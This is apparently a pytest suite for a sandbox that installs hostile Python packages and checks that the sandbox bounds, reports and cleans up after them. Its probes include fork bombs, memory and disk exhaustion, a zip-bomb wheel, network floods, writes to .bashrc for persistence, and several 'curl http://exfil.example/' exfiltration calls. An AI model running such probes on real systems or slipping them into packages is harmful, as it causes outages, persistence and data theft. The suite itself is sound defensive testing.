"""A package that takes all it can get is stopped in the right way, is reported once, and leaves
nothing."""

import io
import os
import zipfile
from typing import Any

import pytest
from conftest import Snakehook
from hostile import (
    PROBES,
    add_probe,
    assert_nothing_is_left,
    findings,
    in_one_jail,
    in_turn,
    own_phase,
)
from standins import Drip, Endless, Index, wheel

from jail.watch.events import MAX_EVENTS

as_root = pytest.mark.skipif(os.geteuid() != 0, reason="only root gets cgroups")


def triage(program: Snakehook, index: Index, source: str, **settings: object) -> dict[str, Any]:
    """The report of a package whose module runs `source`; nothing is left of it."""
    add_probe(index, source)
    _, report, _ = program.triage("probe", *in_one_jail(), **settings)
    assert_nothing_is_left(program.state, program.cache)
    assert report["status"] == "finished"
    return report


@pytest.fixture
def exhaust(jail: None, snakehook: Snakehook, index: Index) -> Any:
    """`exhaust(source, NAME=value)`: as `triage`, by whoever runs the tests."""
    return lambda source, **settings: triage(snakehook, index, source, **settings)


WAITING = {
    "busy loop": "while True: pass",
    "idle sleep": "__import__('select').select([], [], [], 3600)",
    "stopped process": "os.kill(os.getpid(), signal.SIGSTOP)",
    "wait for a child that never ends": "os.waitpid(os.fork() or os.kill(os.getpid(), 19) or 0, 0)",
    "read from a FIFO without a writer": "os.mkfifo('/tmp/f'); open('/tmp/f').read()",
}


def test_what_never_ends_is_ended_as_a_timeout(program: Snakehook, index: Index) -> None:
    phases = in_turn(program, index, WAITING, RUN_TIMEOUT_SEC=5)
    assert {name: phase["outcome"] for name, phase in phases.items()} == dict.fromkeys(
        WAITING, "timeout"
    )


def test_a_timeout_is_named_and_found(exhaust: Any) -> None:
    report = exhaust("while True: pass", RUN_TIMEOUT_SEC=6)
    assert report["outcome"] == "timeout"
    assert "RUN_TIMEOUT_SEC" in report["reason"]
    assert findings(report, "limit.hit")


def test_cpu_time_is_bounded_apart_from_the_deadline(exhaust: Any) -> None:
    report = exhaust("while True: pass", RLIMIT_CPU_SEC=1)
    phase = own_phase(report)
    assert phase["outcome"] == "timeout"
    assert phase["signal"] in ("SIGXCPU", "SIGKILL")
    assert "RLIMIT_CPU_SEC" in report["reason"]
    # It was broken off in the middle: not all was seen.
    assert report["verdict"] == "medium"
    assert findings(report, "limit.hit")


@as_root
def test_one_process_that_takes_all_memory_ends_as_memory_by_the_cgroup_s_account(
    exhaust: Any,
) -> None:
    report = exhaust(
        "eaten = []\nwhile True: eaten.append(b'x' * (1 << 20))",
        RLIMIT_AS_MB=128,
        MAX_DISK_BYTES=20_000_000,
    )
    assert report["outcome"] == "memory"


@as_root
def test_many_processes_that_take_all_memory_together_end_as_memory(exhaust: Any) -> None:
    source = """
for _ in range(16):
    if os.fork() == 0:
        eaten = b"x" * (24 << 20)
        __import__('select').select([], [], [], 3600)
os.wait()
raise SystemExit("one was killed")
"""
    report = exhaust(source, RLIMIT_AS_MB=128, MAX_DISK_BYTES=20_000_000)
    assert report["outcome"] == "memory"


@as_root
def test_memory_that_belongs_to_no_process_counts_too(exhaust: Any) -> None:
    source = """
fds = []
while True:
    fd = os.memfd_create("m")
    fds.append(fd)
    os.write(fd, bytes(1 << 20))
"""
    report = exhaust(
        source, RLIMIT_AS_MB=128, MAX_DISK_BYTES=20_000_000, RLIMIT_NOFILE=4096, RUN_TIMEOUT_SEC=20
    )
    assert report["outcome"] == "memory"


def test_without_cgroups_each_process_is_limited_and_the_report_says_so(
    ordinary: Snakehook, index: Index
) -> None:
    source = """
eaten = []
try:
    while len(eaten) < 1000: eaten.append(b"x" * (1 << 20))
except MemoryError: print(len(eaten), flush=True)
"""
    report = triage(ordinary, index, source, RLIMIT_AS_MB=200)
    assert 20 < int(own_phase(report)["stdout"]["text"]) < 200
    assert any(note.startswith("cgroups: ") for note in report["coverage"]["notes"])


def test_an_exit_code_of_137_is_no_memory(exhaust: Any) -> None:
    report = exhaust("os._exit(137)")
    phase = own_phase(report)
    assert (report["outcome"], phase["outcome"], phase["exit_code"]) == ("failed", "failed", 137)


def test_a_fork_bomb_ends_with_its_phase(program: Snakehook, index: Index) -> None:
    source = """
while True:
    try: os.fork()
    except OSError: pass
"""
    report = triage(program, index, source, RUN_TIMEOUT_SEC=6, CGROUP_PIDS_MAX=40)
    assert report["outcome"] in ("timeout", "memory")


def test_a_fork_bomb_whose_processes_end_at_once_fills_no_report(exhaust: Any) -> None:
    source = """
end = time.monotonic() + 2
while time.monotonic() < end:
    if (pid := os.fork()) == 0: os._exit(0)
    os.waitpid(pid, 0)
"""
    report = exhaust(source, RUN_TIMEOUT_SEC=15)
    assert report["outcome"] == "ok"
    assert len(report["processes"]) <= 500


def test_threads_and_descriptors_are_bounded(program: Snakehook, index: Index) -> None:
    source = """
import threading
pause = threading.Event()
threads = fds = 0
try:
    while threads < 2000:
        threading.Thread(target=pause.wait, daemon=True).start()
        threads += 1
except (RuntimeError, MemoryError):
    pass
try:
    while fds < 5000:
        os.dup(0)
        fds += 1
except OSError:
    pass
print(threads, fds, flush=True)
os._exit(0)
"""
    report = triage(program, index, source, CGROUP_PIDS_MAX=40, RLIMIT_NOFILE=200)
    threads, fds = map(int, own_phase(report)["stdout"]["text"].split())
    assert threads <= 44
    assert fds <= 200


FILLING = {
    "one file": "f = open('/tmp/f', 'wb')\nwhile True: f.write(bytes(1 << 20))",
    "shared memory": "f = open('/dev/shm/f', 'wb')\nwhile True: f.write(bytes(1 << 20))",
    "a deleted file": """
f = open('/tmp/f', 'wb')
os.remove('/tmp/f')
while True: f.write(bytes(1 << 20))
""",
    "empty files": "n = 0\nwhile n < 1_000_000: os.mknod(f'/tmp/{n}'); n += 1",
    "folders": "n = 0\nwhile n < 1_000_000: os.mkdir(f'/tmp/{n}'); n += 1",
    "links": "n = 0\nwhile n < 1_000_000: os.symlink('/' + 'x' * 4000, f'/tmp/{n}'); n += 1",
}


def assert_it_ends_as_disk(program: Snakehook, index: Index, filling: str) -> None:
    limits = {"MAX_DISK_BYTES": 10_000_000, "RUN_TIMEOUT_SEC": 30}
    report = triage(program, index, FILLING[filling], **limits)
    assert report["outcome"] == "disk"
    assert "MAX_DISK_BYTES" in report["reason"]


@pytest.mark.parametrize("filling", FILLING)
def test_whatever_fills_the_disk_ends_as_disk(
    jail: None, snakehook: Snakehook, index: Index, filling: str
) -> None:
    assert_it_ends_as_disk(snakehook, index, filling)


@pytest.mark.parametrize("filling", ["one file", "empty files"])
def test_an_ordinary_user_s_disk_has_bounds_of_bytes_and_files_too(
    ordinary: Snakehook, index: Index, filling: str
) -> None:
    assert_it_ends_as_disk(ordinary, index, filling)


def test_a_disk_that_was_full_for_a_moment_was_full(program: Snakehook, index: Index) -> None:
    source = """
try:
    with open('/tmp/f', 'wb') as f:
        while True: f.write(bytes(1 << 20))
finally:
    os.truncate('/tmp/f', 0)
"""
    assert triage(program, index, source, MAX_DISK_BYTES=10_000_000)["outcome"] == "disk"


def test_a_million_folders_do_not_hold_the_deadline_up(ordinary: Snakehook, index: Index) -> None:
    report = triage(
        ordinary, index, "for n in range(1_000_000): os.mkdir(f'/tmp/{n}')", RUN_TIMEOUT_SEC=20
    )
    assert report["outcome"] == "disk"
    assert not findings(report, "evidence.tamper")


def test_a_huge_sparse_file_takes_no_time_and_no_disk(exhaust: Any) -> None:
    source = """
f = open('/tmp/sparse', 'wb')
try: f.truncate(1 << 50)
except OSError: f.truncate(900_000_000)
open('/home/dev/.bashrc', 'w').truncate(900_000_000)
"""
    report = exhaust(source)
    assert report["outcome"] == "ok"
    assert "/home/dev/.bashrc" in {file["path"] for file in report["files"]}


def test_folders_a_thousand_deep_and_odd_files_hold_nothing_up(exhaust: Any) -> None:
    source = """
os.mkdir(b'/tmp/not-utf8-\\xff\\xfe')
open(b'/tmp/not-utf8-\\xff\\xfe/\\x80\\n\\x1b[2J', 'w').close()
os.mkfifo('/home/dev/fifo')
os.symlink('/dev/zero', '/home/dev/zero')
os.symlink('loop', '/home/dev/loop')
socket.socket(socket.AF_UNIX).bind('/home/dev/socket')
for n in range(100): os.symlink('/', f'/tmp/out{n}')
os.makedirs('/tmp/shut'); open('/tmp/shut/in', 'w').close(); os.chmod('/tmp/shut', 0)
os.chdir('/tmp')
for _ in range(1000): os.mkdir('deep'); os.chdir('deep')
open('at-the-bottom', 'w').close()
"""
    report = exhaust(source)
    assert report["outcome"] == "ok"
    assert "/home/dev/fifo" in {file["path"] for file in report["files"]}
    assert not any("\n" in file["path"] or "\x1b" in file["path"] for file in report["files"])


TALKING = {
    "without newlines": "while True: os.write(1, b'x' * 65536)",
    "of newlines": "while True: os.write(1, b'\\n' * 65536)",
    "not UTF-8": "while True: os.write(1, b'\\xff\\xfe\\x00\\x1b]' * 13000)",
    "on both": "while True: os.write(1, b'x' * 65536); os.write(2, b'\\xf0\\x9f' * 30000)",
}


def test_endless_output_is_counted_and_cut(jail: None, snakehook: Snakehook, index: Index) -> None:
    for name, phase in in_turn(snakehook, index, TALKING, RUN_TIMEOUT_SEC=6).items():
        out = phase["stdout"]
        assert (phase["outcome"], out["truncated"]) == ("timeout", True), name
        assert out["bytes"] > 1 << 20 >= len(out["text"]), name


def install(snakehook: Snakehook, name: str, **settings: object) -> dict[str, Any]:
    _, report, _ = snakehook.triage(name, **settings)
    assert_nothing_is_left(snakehook.state, snakehook.cache)
    return report


def test_a_wheel_that_is_a_zip_bomb_fills_the_run_s_disk_and_no_more(
    jail: None, snakehook: Snakehook, index: Index
) -> None:
    filename, data = wheel("bomb", "1.0", {"bomb.py": ""})
    buffer = io.BytesIO(data)
    with zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED) as archive:
        for number in range(8):
            archive.writestr(f"bomb-data/{number}", bytes(20_000_000))
    index.add_file("bomb", filename, buffer.getvalue())
    assert len(buffer.getvalue()) < 1_000_000
    assert install(snakehook, "bomb", MAX_DISK_BYTES=30_000_000)["outcome"] == "disk"


def test_a_wheel_of_a_hundred_thousand_files_ends_within_its_limits(
    jail: None, snakehook: Snakehook, index: Index
) -> None:
    filename, data = wheel("many", "1.0", {"many.py": ""})
    buffer = io.BytesIO(data)
    with zipfile.ZipFile(buffer, "a") as archive:
        for number in range(100_000):
            archive.writestr(f"many_data/{number}", b"")
    index.add_file("many", filename, buffer.getvalue())
    report = install(snakehook, "many", RUN_TIMEOUT_SEC=10)
    assert report["outcome"] in ("ok", "timeout", "disk", "failed")
    assert len(report["files"]) <= 500


DOWNLOADS = {
    "endless": (Endless(), "download_cap"),
    "oversized": (Endless(headers={"Content-Length": "99999999999"}), "download_cap"),
    "dripping": (Drip(b"x" * 1000, gap_sec=0.2), "timeout"),
    "silent": (Endless(chunk=b"", gap_sec=0.2), "timeout"),
}


@pytest.mark.parametrize(("answer", "outcome"), DOWNLOADS.values(), ids=DOWNLOADS)
def test_a_download_that_does_not_end_is_cut(
    jail: None, snakehook: Snakehook, index: Index, answer: Any, outcome: str
) -> None:
    index.add_wheel("load", "1.0", {"load.py": ""})
    index.entry("load", core_metadata=None)
    index.answer("/files/load-1.0-py3-none-any.whl", answer)
    report = install(
        snakehook,
        "load",
        RUN_TIMEOUT_SEC=15 if outcome == "download_cap" else 4,
        MAX_DOWNLOAD_BYTES=2_000_000,
    )
    assert report["outcome"] == outcome
    assert report["downloads"] == []


FLOOD_INDEX = """
def flood():
    kept = []
    for number in range(10_000):
        sock = socket.socket()
        try:
            sock.connect(("127.0.0.1", 3141))
            kept = [*kept[-100:], sock]
        except OSError:
            pass
if not os.path.exists("/tmp/flooded"):
    open("/tmp/flooded", "w").close()
    flood()
"""


def test_ten_thousand_connections_to_the_index_stop_neither_it_nor_the_run(
    jail: None, snakehook: Snakehook, index: Index
) -> None:
    index.add_backend_sdist("flood", "1.0", PROBES + FLOOD_INDEX, {"flood.py": ""})
    report = install(snakehook, "flood", RUN_TIMEOUT_SEC=80)
    assert report["outcome"] == "ok", report["reason"]
    assert any("too many connections" in note for note in report["coverage"]["notes"])


BIG_PAGE = """
import threading
def ask():
    sock = socket.create_connection(("127.0.0.1", 3141))
    sock.sendall(b"GET /simple/large/ HTTP/1.1\\r\\n\\r\\n")
    while sock.recv(1 << 20): pass
if not os.path.exists("/tmp/asked"):
    open("/tmp/asked", "w").close()
    for _ in range(30): threading.Thread(target=ask, daemon=True).start()
    __import__('select').select([], [], [], 1)
os.popen("true").read()
"""


def test_many_requests_for_a_large_page_at_once_do_not_use_up_the_watch_s_memory(
    jail: None, snakehook: Snakehook, index: Index
) -> None:
    index.add_wheel("large", "1.0", {"large.py": ""})
    for number in range(30_000):
        entry = {
            "filename": f"large-{number}.tar.gz",
            "url": f"/files/{number}",
            "hashes": {"sha256": f"{number:064x}"},
        }
        index._entries["large"].append(entry)
    index.add_backend_sdist("asker", "1.0", PROBES + BIG_PAGE, {"asker.py": ""})
    report = install(snakehook, "asker", RUN_TIMEOUT_SEC=20)
    assert report["outcome"] in ("ok", "timeout"), report["reason"]
    assert findings(report, "process.spawn")


FLOODS = {
    "DNS questions": """
name = b"".join(bytes([7]) + b"%07d" % 7 for _ in range(3)) + b"\\0"
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
    sock.setblocking(False)
    for n in range(20_000):
        question = b"id\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\7%07d\\0\\0\\1\\0\\1" % n
        try: sock.sendto(question, ("127.0.0.1", 53))
        except BlockingIOError: pass
""",
    "audit lines": """
fd = os.open("/run/initctl", os.O_WRONLY)
line = b'{"event": "spawn", "pid": %d, "what": "%d", "at": "x"}\\n'
for n in range(50_000): os.write(fd, line % (n, n))
for _ in range(2_000): os.write(fd, b"[" * 4000 + b"\\n")
os.write(fd, b"x" * 1_000_000)
""",
    "execs": """
for n in range(2200):
    if (pid := os.fork()) == 0: os.execv("/bin/true", ["true", str(n)])
    os.waitpid(pid, 0)
""",
    "failing execs with much to say": """
for n in range(100):
    try: os.execv(f"/nowhere/{n}", [f"{n}", *(chr(65 + n % 26) * 4096 for _ in range(200))])
    except OSError: pass
""",
    "addresses": """
for n in range(20_000):
    try: socket.socket(socket.AF_UNIX).connect(f"\\0{n:0100}")
    except OSError: pass
""",
}


@pytest.mark.parametrize("flood", FLOODS.values(), ids=FLOODS)
def test_a_flood_of_evidence_is_bounded_and_hides_nothing_that_comes_after(
    exhaust: Any, flood: str
) -> None:
    report = exhaust(
        flood + "\nos.popen('curl http://exfil.example/').read()\n", RUN_TIMEOUT_SEC=90
    )
    assert report["outcome"] == "ok", report["reason"]
    assert len(str(report)) < 20_000_000
    assert any("curl" in title for title in findings(report, "process.spawn"))


# Each of these keeps the watch busy after the phase's end, when the run keeper waits GRACE_SEC
# and no longer.
AFTERMATHS = {
    "a hundred files to search for bait": """
text = (os.environ["GITHUB_TOKEN"][-1] * 1_000_000).encode()
for n in range(100): open(f"/tmp/{n:03}", "wb").write(text)
""",
    "two accounts with much to compare": """
fd = os.open("/run/initctl", os.O_WRONLY)
line = b'{"event": "address", "pid": %d, "what": %s, "at": "x"}\\n'
for n in range(2000):
    what = json.dumps("x" * 3800 + str(n))
    os.write(fd, line % (os.getpid(), what.encode()))
for n in range(2000):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        with socket.socket(socket.AF_INET, kind) as sock:
            sock.setblocking(False)
            try: sock.connect((f"127.1.{n // 250}.{n % 250 + 1}", 9))
            except OSError: pass
""",
    "a gigabyte of paths": """
os.chdir("/tmp")
for _ in range(97):
    os.mkdir("d" * 250)
    os.chdir("d" * 250)
for n in range(60_000): os.mknod(f"{n:0250}")
""",
    "a gigabyte of .pth files": """
open("/home/dev/links", "w").write("\\n" * 1_000_000)
for n in range(10_000): os.link("/home/dev/links", f"/home/dev/.{n}.pth")
""",
}


@pytest.mark.parametrize("source", AFTERMATHS.values(), ids=AFTERMATHS)
def test_no_evidence_is_so_laborious_that_the_watch_is_not_waited_for(
    exhaust: Any, source: str
) -> None:
    report = exhaust(
        source + "\nos.popen('curl http://exfil.example/').read()\n"
        "__import__('select').select([], [], [], 3600)\n",
        RUN_TIMEOUT_SEC=8,
    )
    assert report["outcome"] == "timeout", report["reason"]
    assert any("curl" in title for title in findings(report, "process.spawn"))


UNBORN = """
import ctypes
def fork_that_does_not_return_until_its_child_is_gone():
    clone, CLONE_VFORK = 220 if os.uname().machine == "aarch64" else 56, 0x4000
    words = [clone, CLONE_VFORK | signal.SIGCHLD, 0, 0, 0, 0]
    return ctypes.CDLL(None).syscall(*map(ctypes.c_long, words))
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
    if fork_that_does_not_return_until_its_child_is_gone() == 0:
        for _ in range(80):
            try: sock.sendmsg([b"x" * 4096] * 200, [], 0, ("192.0.2.1", 9))
            except OSError: pass
        os._exit(0)
os.popen("curl http://exfil.example/").read()
"""


def test_a_process_whose_birth_is_not_told_yet_does_not_use_up_the_watch_s_memory(
    exhaust: Any,
) -> None:
    report = exhaust(UNBORN, RUN_TIMEOUT_SEC=40)
    assert report["outcome"] == "ok", report["reason"]
    assert any("192.0.2.1:9" in title for title in findings(report, "network.attempt"))
    assert any("curl" in title for title in findings(report, "process.spawn"))


CROWD_OF_RECORDS = """
version = "python%d.%d" % sys.version_info[:2]
site = f"/srv/site/crowd-1.0/lib/{version}/site-packages"
os.makedirs(site, exist_ok=True)
open(f"{site}/lines", "w").write("\\n" * 1_000_000)
for n in range(2000):
    os.makedirs(f"{site}/x-{n}.dist-info", exist_ok=True)
    for name in ("METADATA", "RECORD"):
        path = f"{site}/x-{n}.dist-info/{name}"
        if not os.path.exists(path): os.link(f"{site}/lines", path)
open("/home/dev/.bashrc", "w").write("echo persisted")
"""


def test_a_crowd_of_records_is_not_read_to_its_end(
    jail: None, snakehook: Snakehook, index: Index
) -> None:
    index.add_backend_sdist("crowd", "1.0", PROBES + CROWD_OF_RECORDS, {"crowd.py": ""})
    report = install(snakehook, "crowd", RUN_TIMEOUT_SEC=20)
    assert any(".bashrc" in title for title in findings(report, "persistence.write"))
    assert any("RECORD" in title for title in findings(report, "limit.hit"))


def test_no_crowd_of_folders_hides_what_lies_above_it(exhaust: Any) -> None:
    source = """
place = os.path.dirname(os.path.abspath(__file__))
for n in range(41_000): os.mkdir(f"{place}/{n}")
open("/home/dev/.bashrc", "w").write("echo persisted")
"""
    report = exhaust(source)
    assert any(".bashrc" in title for title in findings(report, "persistence.write"))
    assert any("looked at" in title for title in findings(report, "limit.hit"))


def test_names_that_are_not_kept_are_counted(exhaust: Any) -> None:
    source = f"""
for n in range({MAX_EVENTS + 50}):
    try: socket.getaddrinfo(f"n{{n}}.example.com", 80)
    except OSError: pass
"""
    report = exhaust(source)
    assert any("not kept: name" in title for title in findings(report, "limit.hit"))


def test_a_long_row_of_harmless_findings_does_not_push_a_grave_one_out(exhaust: Any) -> None:
    source = """
for n in range(700):
    if (pid := os.fork()) == 0: os.execv("/bin/true", ["true", str(n)])
    os.waitpid(pid, 0)
os.popen("curl http://exfil.example/").read()
"""
    report = exhaust(source, RUN_TIMEOUT_SEC=40)
    assert any(
        finding["severity"] == "high" and "curl" in finding["title"]
        for finding in report["findings"]
    )


def test_many_new_files_do_not_push_out_the_one_that_matters(exhaust: Any) -> None:
    source = """
for n in range(2500): open(f"/home/dev/.a{n:05}", "w").close()
open("/home/dev/.bashrc", "w").write("echo persisted")
"""
    report = exhaust(source)
    assert any(".bashrc" in title for title in findings(report, "persistence.write"))
